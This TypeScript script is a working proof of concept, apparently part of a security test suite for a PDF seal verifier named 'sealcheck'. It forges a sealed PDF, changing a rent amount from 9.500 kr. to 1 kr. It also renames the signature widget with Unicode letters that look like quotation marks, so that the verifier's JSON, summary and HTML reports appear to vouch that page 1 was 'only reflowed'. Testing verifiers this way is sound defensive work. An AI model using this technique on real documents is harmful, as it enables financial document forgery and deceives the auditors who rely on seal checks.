// W4: hs5a's allow-list for quoted names (src/report/quoted-name.ts QUOTABLE) admits every letter of categories
// Lu, Ll, Lt, Lo, and some of those letters are drawn as quotation marks or primes: U+A78C LATIN SMALL LETTER
// SALTILLO "ꞌ" (Ll, a straight apostrophe in every common font; two of them read as a '"'), U+141F CANADIAN
// SYLLABICS FINAL ACUTE "ᐟ" (Lo, a prime). A field name holding them closes the quotation as a reader sees it,
// so attack-s5 W2 (a lookalike quote ends the quotation; what follows reads as sealcheck's own words) is back
// with a letter instead of a modifier letter, in the JSON, `--summary` and the HTML statement.
// File: attack-s5 W2's: samples/valid/archive.pdf plus one revision that rewrites page 1's content (the rent
// "9.500 kr." becomes "1 kr.") and renames the seal's widget `Sig1ꞌꞌ (page 1 only reflowed); ꞌꞌSig1`.
//   npx tsx scripts/attack-s6/words-letter-quote.ts [saltillo|syllabics|honest]
// honest: the same name with U+02BA (W2's, which the allow-list escapes as \u{02BA}).
import { save, sample, tool, verify, work } from "../attack36/lib.js";
import { appendRaw, forgedRent, streamBody, streamData, type RawObject } from "../attack-s4/raw.js";

const mode = process.argv[2] ?? "saltillo";
const QUOTES: Record<string, string> = { saltillo: "\uA78C\uA78C", syllabics: "\u141F\u141F", honest: "\u02BA" };
const q = QUOTES[mode];
if (q === undefined) throw new Error(`mode: ${Object.keys(QUOTES).join("|")}, not ${mode}`);
const base = sample("valid/archive.pdf");
// Page 1's content is object 5, the seal's field and widget 23 (qpdf --show-pages of the sample).
const name = `Sig1${q} (page 1 only reflowed); ${q}Sig1`;
const utf16 = Buffer.from(`\uFEFF${name}`, "utf16le").swap16().toString("hex").toUpperCase();
const objects: RawObject[] = [
  { num: 5, body: streamBody("", forgedRent(streamData(base, 5))) },
  { num: 23, body: `<< /F 132 /FT /Sig /P 6 0 R /Rect [ 0 0 0 0 ] /Subtype /Widget /T <${utf16}> /Type /Annot /V 22 0 R >>` },
];
const dir = work(`s6-w4-${mode}`);
const file = save(dir, "archive.pdf", appendRaw(base, objects, "/Root 2 0 R /Info 3 0 R"));
console.log(`wrote ${file} (${mode}): page 1's rent forged, the seal's widget renamed ${JSON.stringify(name)} (${[...name].length} characters)`);
const v = verify(file);
console.log(`== sealcheck: ${v.indication}${v.subIndication ? ` / ${v.subIndication}` : ""}, exit ${v.exit}`);
const c = v.report.checks.find((x) => x.id === "seal-modifications") as unknown as { details?: { summary?: string } };
console.log(`   reader's words (JSON details.summary): ${c.details?.summary ?? "-"}`);
const html = `${dir}/statement.html`;
const human = tool("node", ["dist/cli/main.js", "verify", file, "samples/valid/originals", "--trust", "samples/trust", "--summary", "--report", html]);
console.log("== sealcheck --summary (what the auditor reads):");
console.log(
  human
    .split("\n")
    .filter((l) => /only reflowed/.test(l))
    .slice(0, 3)
    .join("\n"),
);
const page = tool("chromium", ["--headless", "--no-sandbox", "--disable-gpu", "--dump-dom", `file://${html}`]);
const reason = /[^>]{0,60}only reflowed[^<]{0,80}/.exec(page.replace(/&quot;/g, '"'))?.[0];
console.log(`== HTML statement (${html}), as Chromium renders its DOM: ${reason ?? "(the name is not shown)"}`);
tool("chromium", ["--headless", "--no-sandbox", "--disable-gpu", "--window-size=1200,1600", `--screenshot=${dir}/statement.png`, `file://${html}`]);
console.log(`== screenshot of the statement: ${dir}/statement.png`);
console.log(
  "== pdftotext page 1:",
  tool("pdftotext", ["-f", "1", "-l", "1", file, "-"])
    .split("\n")
    .find((l) => l.startsWith("Husleje")),
);
